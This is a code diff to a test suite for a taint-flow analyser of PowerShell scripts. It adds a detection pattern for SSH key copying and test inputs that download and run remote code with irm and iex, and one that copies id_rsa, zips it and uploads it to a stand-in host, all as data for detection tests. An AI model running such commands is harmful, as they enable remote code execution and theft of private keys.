@@ -17,6 +17,7 @@ const probe: TaintProbe = {
     { tag: 'remote', pattern: '*.downloadstring' },
     { tag: 'remote', pattern: '*.downloadfile' },
     { tag: 'secret', pattern: 'env.TOKEN' },
+    { tag: 'secret', pattern: 'copy-item(*.ssh*id_*)' },
   ],
   sinks: ['invoke-expression', '&', 'start-process', 'scriptblock.create', 'invoke-restmethod'].map(
     (pattern) => ({ tag: 'sink', pattern }),
@@ -74,6 +75,26 @@ test.each([
     'an encoded command',
     `pwsh.exe -enc ${Buffer.from('iwr https://a.test/x | iex', 'utf16le').toString('base64')}`,
     'invoke-webrequest(https://a.test/x) > invoke-expression',
+  ],
+  [
+    'a function, its parameters by name and what it gives',
+    'function Get-It {\n  param([string]$From)\n  return irm $From\n}\nfunction Run-It([string]$Text, [switch]$Quiet) {\n  iex $Text\n}\n$t = Get-It -From "https://a.test/x"\nRun-It -Quiet -Text $t',
+    'invoke-restmethod(https://a.test/x) > invoke-expression',
+  ],
+  [
+    'each of many',
+    'foreach ($u in @("https://a.test/x", "https://a.test/y")) { iex (irm $u) }',
+    'invoke-restmethod(https://a.test/y) > invoke-expression',
+  ],
+  [
+    'a block for each that comes',
+    '"https://a.test/z" | % { $t = irm $_; iex $t }',
+    'invoke-restmethod(https://a.test/z) > invoke-expression',
+  ],
+  [
+    'a folder that is packed',
+    'Copy-Item "$HOME\\.ssh\\id_rsa" -Destination "$env:TEMP\\w"\nCompress-Archive -Path "$env:TEMP\\w\\*" -DestinationPath c.zip\nirm https://a.test/in -InFile c.zip',
+    'copy-item(~\\.ssh\\id_rsa) > invoke-restmethod',
   ],
 ])('data is followed through %s', async (_, text, flow) => {
   expect(await flowsOf(text)).toContain(flow)
